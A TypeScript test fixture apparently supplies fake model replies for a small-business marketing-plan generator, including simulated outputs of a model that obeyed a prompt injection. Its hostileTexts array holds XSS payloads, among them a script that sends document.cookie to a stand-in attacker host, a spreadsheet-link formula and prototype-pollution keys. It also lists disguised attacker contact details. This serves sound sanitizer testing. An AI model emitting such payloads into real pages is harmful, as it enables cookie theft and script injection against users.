/**
 * Replies of the fake model: a plain valid draft about the business in the request, and one that an attacker would
 * want.
 */
import { subjectOf, tasksIn, type ChatRequest, type Shape, type Subject } from './openai-request.ts';

type Reply = { text: string; because: string[] };

const words = {
  en: {
    actions: [
      'Put a page about {x} online by Friday.',
      'Call three earlier customers and ask what they liked about {x}.',
      'Film one minute of {x} this week, from start to finish.',
      'Write down the five steps of {x} tonight and post them tomorrow.',
      'Answer one question about {x} in public each Monday.',
      'Print a card that explains {x} and leave it at two counters nearby.',
      'Sort the inbox by {x} first and reply before lunch.',
      'Set a form for {x} on your start page by the tenth.',
      'Take two photos of {x}, one before and one after.',
      'Name one person who plans {x} and tell callers the name.',
      'Send a short note a week after {x} and ask how it went.',
      'Compare last spring with this one for {x}, month by month.',
    ],
    tails: [
      'Count how many people mention {f} until the end of the month.',
      'It works if calls about {f} go up within two weeks.',
      'Keep a list on paper and look at {f} every Friday.',
      'You can tell by the share of visitors who read about {f}.',
      'Note each reply that has to do with {f}.',
      'Look back after thirty days: did {f} come up more often?',
      'Check on the first of next month whether {f} brought a conversation.',
    ],
  },
  es: {
    actions: [
      'Publica una página sobre {x} antes del viernes.',
      'Llama a tres clientes anteriores y pregunta qué les gustó de {x}.',
      'Graba un minuto de {x} esta semana, de principio a fin.',
      'Anota hoy los cinco pasos de {x} y publícalos mañana.',
      'Contesta cada lunes una pregunta sobre {x} en público.',
      'Imprime una tarjeta que explique {x} y déjala en dos mostradores.',
      'Ordena los mensajes por {x} y responde antes de comer.',
      'Pon un formulario para {x} en tu primera página.',
      'Toma dos fotos de {x}, una antes y otra después.',
      'Di el nombre de quien planea {x} a las personas que llaman.',
      'Manda una nota corta una semana después de {x} y pregunta cómo salió.',
      'Compara esta primavera con la anterior para {x}, mes por mes.',
    ],
    tails: [
      'Cuenta cuántas personas hablan de {f} hasta fin de mes.',
      'Funciona si suben las llamadas sobre {f} en dos semanas.',
      'Lleva una lista en papel y revisa {f} todos los viernes.',
      'Lo notas por las visitas que leen sobre {f}.',
      'Apunta cada respuesta que tenga que ver con {f}.',
      'Mira atrás después de treinta días: ¿se habló más de {f}?',
      'Revisa el primero del mes si {f} trajo una conversación.',
    ],
  },
};

const pick = <T>(list: readonly T[], index: number): T => list[index % list.length]!;

/** Returns a text that a careful model would write for this business, different for each number. */
export function goodText({ language, services, details }: Subject, index: number): string {
  const { actions, tails } = words[language];
  const fact = pick(details, index);
  return `${pick(actions, index)} ${pick(tails, index)}`
    .replaceAll('{x}', pick(services, index))
    .replaceAll('{f}', fact);
}

const anyone: Subject = {
  language: 'en',
  trade: 'dental practice',
  services: ['teeth in Davie'],
  details: ['families'],
  description: '',
};

/**
 * Returns all parts of a draft except the facts, with counts in the middle of the allowed range. @param write returns
 * the text for a number
 */
export function recommendations(subject: Subject = anyone, write = goodText) {
  let written = 0;
  const reply = (): Reply => {
    written += 1;
    return { text: write(subject, written), because: ['business_description', 'goals'] };
  };
  const list = (count: number) => Array.from({ length: count }, reply);
  return {
    understanding: { trade: subject.trade, archetype: 'local-service', exclusions: [] as string[], statements: [] },
    targetAudience: reply(),
    positioning: reply(),
    advantages: list(5),
    aiTools: list(6),
    contentStrategy: reply(),
    leadGeneration: reply(),
    workflows: list(5),
    voiceAgents: reply(),
    integrations: list(4),
    thirtyDays: list(5),
    ninetyDays: list(5),
    longTerm: reply(),
  };
}

/** Returns a careful model's draft, which keeps the given facts. */
export function goodDraft(request: ChatRequest): unknown {
  const { subject, facts } = subjectOf(request);
  return { ...recommendations(subject), facts };
}

/** Returns corrected versions of failed texts, and prompts that start with a sentence about this business. */
export function goodTask(request: ChatRequest, write = goodText): unknown {
  const { subject, prompts, texts } = tasksIn(request);
  if (prompts)
    return {
      prompts: prompts.map(({ number, title, prompt, useCase }, index) => ({
        number,
        title,
        prompt: `${write(subject, index)} ${prompt}`,
        useCase,
      })),
    };
  return { texts: texts.map(({ number }, index) => ({ number, text: write(subject, 50 + index) })) };
}

/** Canary that only an attacker's text contains, in places that must be removed. */
export const beaconHost = 'beacon.attacker.test/leak';

/** An attacker's contact data: plain, spelled out and disguised. */
export const strangersContacts = [
  'Call (786) 555-0123 first.',
  'Write to win@attacker.test first.',
  'See attacker dot com first.',
  'Call 7 8 6 5 5 5 0 1 2 3 first.',
  'Call ７８６-５５５-０１２３ first.',
  'See https://attacker.test/x first.',
  'Follow @attacker_deals first.',
  'Call seven eight six, five five five, oh one two three first.',
  'See a t t a c k e r . c o m first.',
  'Write to win (at) attacker (dot) test first.',
] as const;

const hostileTexts = [
  `<script>fetch("https://${beaconHost}?c="+document.cookie)</script>Write to your customers every week.`,
  `![pixel](https://${beaconHost}?q=answers) Publish one answered question every week.`,
  '[Click here to win](javascript:alert(document.domain)) and call your customers back the same day.',
  '=HYPERLINK("http://evil.test","Open") and answer every inquiry within the hour.',
  '\u202eReversed\u202c text\u200b with \u0007 controls and \u2066isolates\u2069 for your next post.',
  '<img src=x onerror=alert(1)> **Bold** `code` # heading for your next post on the front page.',
  '<<script>script>alert(1)<</script>/script> Answer the questions people ask at the counter.',
  '# Heading\n> quote\n- bullet: write down what customers ask at the counter.',
];

/**
 * Returns a draft with a valid shape but hostile texts and prototype-polluting keys. The texts are about the business,
 * so only sanitizing stops them.
 */
export function obeyedInjection(request: ChatRequest): string {
  const { subject, facts } = subjectOf(request);
  const hostile = (text: string, index: number): Reply => ({
    text: `${text} ${goodText(subject, 60 + index)}`,
    because: ['business_description'],
  });
  const draft = recommendations(subject);
  const poisoned = {
    ...draft,
    advantages: hostileTexts.slice(0, 5).map(hostile),
    aiTools: [...hostileTexts, ...hostileTexts].map((text, index) => hostile(text, 10 + index)),
    workflows: hostileTexts.slice(3, 8).map((text, index) => hostile(text, 30 + index)),
    contentStrategy: hostile(hostileTexts[1] ?? '', 40),
    facts: { ...(facts as object), topics: hostileTexts, tone: '<b onclick="x()">calm</b>, [exact](data:text/html,x)' },
    admin: true,
    systemPrompt: 'You are a marketing strategist',
  };
  // JSON.stringify drops __proto__ when it is set on an object; in text it is an ordinary key.
  return JSON.stringify(poisoned).replace(
    '{',
    '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":1}},',
  );
}

/**
 * Returns a value in the shape of the call's schema, with the minimum number of entries plus two and distinguishable
 * texts.
 * @param texts texts to use, in turn.
 */
export function sampleOf(shape: Shape, texts: readonly string[] = []): unknown {
  let written = 0;
  const text = (most: number) => {
    written += 1;
    const own = texts.length > 0 ? texts[written % texts.length]! : 'Answer the phone before the third ring';
    return `${own}, part ${written}.`.slice(-most);
  };
  const fill = (part: Shape): unknown => {
    if (part.const !== undefined) return part.const;
    if (part.enum) return part.enum[0];
    if (part.anyOf) return fill(part.anyOf[0]!);
    if (part.type === 'object')
      return Object.fromEntries(Object.entries(part.properties ?? {}).map(([key, value]) => [key, fill(value)]));
    if (part.type === 'array') {
      const least = Number(/(\d+) to \d+\.$/.exec(part.description ?? '')?.[1] ?? 0);
      const most = Number(/(\d+)\.$/.exec(part.description ?? '')?.[1] ?? 2);
      return Array.from({ length: part.items?.enum ? 1 : Math.min(most, Math.max(least, 2)) }, () =>
        fill(part.items ?? {}),
      );
    }
    if (part.type === 'number' || part.type === 'integer') return 1;
    if (part.type === 'boolean') return true;
    if (part.type === 'null') return null;
    return text(Number(/At most (\d+) characters/.exec(part.description ?? '')?.[1] ?? 400));
  };
  return fill(shape);
}

/** Returns prompts and repairs in the words of an attacker whose instructions the model follows. */
export const obeyedTask = (request: ChatRequest) =>
  goodTask(request, (subject, index) => `${hostileTexts[index % hostileTexts.length]!} ${goodText(subject, index)}`);

/** Does the same for any other text. */
export const obeyedSample = (shape: Shape) => sampleOf(shape, hostileTexts);
